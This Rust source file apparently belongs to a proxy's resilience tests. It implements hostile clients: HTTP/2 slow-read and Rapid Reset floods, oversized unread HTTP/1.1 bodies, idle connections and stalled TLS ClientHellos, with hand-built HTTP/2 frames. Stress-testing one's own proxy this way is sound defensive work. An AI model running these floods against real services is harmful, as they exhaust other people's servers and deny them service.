//! Hostile clients of a proxy. Each kind makes the proxy hold as much, or do as much, as it can.

use std::time::Duration;

use anyhow::{Result, anyhow, ensure};
use futures::future::join_all;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::time::{sleep, timeout};

use crate::echo::LARGE;
use crate::requests::{Origin, Stream, Version};

/// Longest that one client may take, with its wait until it may open a connection.
const BOUND: Duration = Duration::from_mins(1);
/// How many connections are being opened at one time.
const OPENING: usize = 32;
/// How long a client of a long answer or body stays.
const HOLD: Duration = Duration::from_secs(5);
/// How often it sends a PING meanwhile.
const PING_INTERVAL: Duration = Duration::from_secs(1);
/// Requests at one time on an HTTP/2 connection.
const REQUESTS: u32 = 100;
/// How often a client takes its requests back on one connection, and on how many connections one after another.
const TURNS: usize = 5;
const AGAIN: usize = 4;
/// The body that a client offers, in pieces.
const PIECE: usize = 64 * 1024;
const PIECES: usize = 128;

/// The first bytes of a client of HTTP/2, and the types of its frames (RFC 9113, section 6).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
/// Flags of a HEADERS frame that is a whole request.
const WHOLE: u8 = 0x5;
/// The error code CANCEL.
const CANCEL: u32 = 8;
/// The largest window.
const WINDOW: u32 = (1 << 31) - 1;

/// A kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// HTTP/2 with the largest windows: requests for a long answer of which nothing is read, and pings.
    SlowRead,
    /// HTTP/2: requests that are taken back, again and again.
    RapidReset,
    /// HTTP/1.1 with a long body that the backend does not read, and a long answer that the client does not read.
    Bodies,
    /// HTTP/1.1 with one answered request, and nothing after it.
    Idle,
    /// The first bytes of a ClientHello.
    SlowHello,
}

impl Kind {
    /// All of them.
    pub(crate) const ALL: [Self; 5] = [
        Self::SlowRead,
        Self::RapidReset,
        Self::Bodies,
        Self::Idle,
        Self::SlowHello,
    ];

    /// The HTTP that it is made in.
    pub(crate) fn version(self) -> Version {
        match self {
            Self::SlowRead | Self::RapidReset => Version::Two,
            Self::Bodies | Self::Idle | Self::SlowHello => Version::One,
        }
    }

    /// Attacks all origins at the same time, with `each` connections to each of them. Returns how many of the clients
    /// got as far as they wanted.
    pub(crate) async fn attack(self, origins: &[Origin], each: usize) -> usize {
        let opening = &Semaphore::new(OPENING);
        let clients = origins.iter().flat_map(|origin| {
            (0..each).map(move |_| timeout(BOUND, self.client(origin, opening)))
        });
        // Every connection stays open until the last client is done.
        let done = join_all(clients).await;
        done.iter().filter(|one| matches!(one, Ok(Ok(_)))).count()
    }

    async fn client(self, origin: &Origin, opening: &Semaphore) -> Result<Stream> {
        let turn = opening.acquire().await?;
        let mut stream: Stream = if self == Self::SlowHello {
            Box::new(TcpStream::connect(origin.address).await?)
        } else {
            open(origin).await?
        };
        drop(turn);
        match self {
            Self::SlowRead => slow_read(&mut stream, &origin.host).await?,
            Self::RapidReset => {
                for _ in 0..AGAIN {
                    // The proxy may end the connection, and should.
                    let _ = take_back(&mut stream, &origin.host).await;
                    stream = open(origin).await?;
                }
            }
            Self::Bodies => offer_body(&mut stream, &origin.host).await?,
            Self::Idle => {
                let request = format!("GET / HTTP/1.1\r\nhost: {}\r\n\r\n", origin.host);
                send(&mut stream, request.as_bytes()).await?;
                let mut answer = [0; 512];
                ensure!(stream.read(&mut answer).await? > 0, "closed");
            }
            Self::SlowHello => {
                send(&mut stream, &[0x16, 3, 1]).await?;
                sleep(Duration::from_secs(1)).await;
            }
        }
        Ok(stream)
    }
}

async fn open(origin: &Origin) -> Result<Stream> {
    let opened = origin.stream().await;
    let (stream, _) = opened.map_err(|failure| anyhow!("{failure:?}"))?;
    Ok(stream)
}

async fn send(stream: &mut Stream, bytes: &[u8]) -> Result<()> {
    stream.write_all(bytes).await?;
    stream.flush().await?;
    Ok(())
}

async fn slow_read(stream: &mut Stream, host: &str) -> Result<()> {
    let window = [&[0, 4][..], &WINDOW.to_be_bytes()].concat();
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &window));
    let more = (WINDOW - 65_535).to_be_bytes();
    bytes.extend(frame(WINDOW_UPDATE, 0, 0, &more));
    for number in 0..REQUESTS {
        bytes.extend(request(host, 1 + 2 * number)?);
    }
    send(stream, &bytes).await?;
    let pings = async {
        loop {
            sleep(PING_INTERVAL).await;
            send(stream, &frame(PING, 0, 0, &[0; 8])).await?;
        }
    };
    // It pings until its time is over, unless it is ended before.
    timeout(HOLD, pings).await.unwrap_or(Ok(()))
}

/// Makes requests, gives them a moment to come to the backend, and takes them back.
async fn take_back(stream: &mut Stream, host: &str) -> Result<()> {
    send(stream, &[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
    let mut next = 1;
    for _ in 0..TURNS {
        let (mut requests, mut resets) = (Vec::new(), Vec::new());
        for _ in 0..REQUESTS {
            requests.extend(request(host, next)?);
            resets.extend(frame(RST_STREAM, 0, next, &CANCEL.to_be_bytes()));
            next += 2;
        }
        send(stream, &requests).await?;
        sleep(Duration::from_millis(50)).await;
        send(stream, &resets).await?;
    }
    Ok(())
}

async fn offer_body(stream: &mut Stream, host: &str) -> Result<()> {
    let length = PIECE * PIECES;
    let head = format!("POST {LARGE} HTTP/1.1\r\nhost: {host}\r\ncontent-length: {length}\r\n\r\n");
    send(stream, head.as_bytes()).await?;
    let piece = vec![0_u8; PIECE];
    let offered = async {
        for _ in 0..PIECES {
            send(stream, &piece).await?;
        }
        anyhow::Ok(())
    };
    // The client waits as soon as nobody takes more.
    if let Ok(offered) = timeout(HOLD, offered).await {
        offered?;
    }
    Ok(())
}

/// A request for the long answer, as a HEADERS frame: two fields of the static table (RFC 7541, appendix A), and two
/// literals that no table keeps.
fn request(host: &str, stream: u32) -> Result<Vec<u8>> {
    // `:method: GET`, `:scheme: https`, and then `:path` and `:authority`.
    let mut block = vec![0x82, 0x87];
    for (index, value) in [(4, LARGE), (1, host)] {
        // A length from 127 on is written otherwise.
        ensure!(value.len() < 127, "{value} is too long");
        block.push(index);
        block.push(u8::try_from(value.len())?);
        block.extend_from_slice(value.as_bytes());
    }
    Ok(frame(HEADERS, WHOLE, stream, &block))
}

/// A frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [.., high, middle, low] = payload.len().to_be_bytes();
    let head = [high, middle, low, kind, flags];
    [&head[..], &stream.to_be_bytes(), payload].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn a_request_is_read_by_a_server() {
        let (mut client, server) = tokio::io::duplex(PIECE);
        let settings = frame(SETTINGS, 0, 0, &[]);
        let request = request("a.test", 1).unwrap();
        let bytes = [PREFACE, &settings, &request].concat();
        client.write_all(&bytes).await.unwrap();
        let mut server = h2::server::handshake(server).await.unwrap();
        let (request, _) = server.accept().await.unwrap().unwrap();
        assert_eq!(request.uri().to_string(), "https://a.test/large");
    }
}
